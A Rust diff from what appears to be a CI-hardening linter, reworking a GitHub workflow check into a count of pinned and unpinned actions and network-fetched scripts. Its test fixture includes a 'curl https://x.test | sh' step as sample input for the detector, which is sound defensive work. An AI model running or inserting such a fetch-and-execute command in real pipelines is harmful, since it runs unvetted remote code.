@@ -7,7 +7,9 @@ mod yaml;
 
 use std::collections::BTreeMap;
 
-use super::contract::{Draft, Inspection, Lens, LensSpec, Need, everywhere, presets, rule, text_rule};
+use super::contract::{
+    Census, Draft, Inspection, Lens, LensSpec, Need, everywhere, presets, rule, text_rule,
+};
 use crate::contracts::ids::RepoPath;
 use crate::contracts::v1::{
     ChangeKind, ChangedFile, LensClass, PresetStrengths, ScopeStrengths, Severity, Strength,
@@ -202,14 +204,13 @@ impl Lens for WorkflowHardening {
         Inspection { drafts, facts: Vec::new() }
     }
 
-    fn complies(&self, rule: &str, file: &RepoPath, text: &str) -> Option<bool> {
-        if !is_workflow(file) {
-            return None;
-        }
+    /// A repository has a handful of workflows, so what they use and run is counted one by one.
+    fn census(&self, rule: &str, file: &RepoPath, text: &str) -> Census {
+        let read = || yaml::read(text);
         match rule {
-            UNPINNED => uses::complies(&yaml::read(text)),
-            FROM_NETWORK => Some(injection::complies(&yaml::read(text))),
-            _ => None,
+            UNPINNED if is_workflow(file) => uses::census(&read()),
+            FROM_NETWORK if is_workflow(file) => injection::census(&read()),
+            _ => Census::default(),
         }
     }
 }
@@ -219,15 +220,18 @@ mod tests {
     use super::*;
 
     #[test]
-    fn workflows_say_whether_they_comply_and_other_files_do_not() {
+    fn workflows_say_what_complies_and_other_files_say_nothing() {
         let workflow = RepoPath::from_bytes(b".github/workflows/a.yml").unwrap();
         let other = RepoPath::from_bytes(b"a.yml").unwrap();
-        let text = "jobs:\n  a:\n    steps:\n      - uses: a/b@v1\n      - run: curl https://x.test | sh\n";
+        let pinned = "a".repeat(40);
+        let text = format!(
+            "jobs:\n  a:\n    steps:\n      - uses: a/b@v1\n      - uses: ./c\n      - uses: actions/d@{pinned}\n      - run: curl https://x.test | sh\n      - run: make\n"
+        );
         for rule in [UNPINNED, FROM_NETWORK] {
-            assert_eq!(WorkflowHardening.complies(rule, &workflow, text), Some(false));
-            assert_eq!(WorkflowHardening.complies(rule, &other, text), None);
+            let half = Census { support: 2, complying: 1 };
+            assert_eq!(WorkflowHardening.census(rule, &workflow, &text), half, "{rule}");
+            assert_eq!(WorkflowHardening.census(rule, &other, &text), Census::default());
+            assert_eq!(WorkflowHardening.census(rule, &workflow, "jobs:\n"), Census::default());
         }
-        assert_eq!(WorkflowHardening.complies(UNPINNED, &workflow, "jobs:\n"), None);
-        assert_eq!(WorkflowHardening.complies(FROM_NETWORK, &workflow, "jobs:\n"), Some(true));
     }
 }
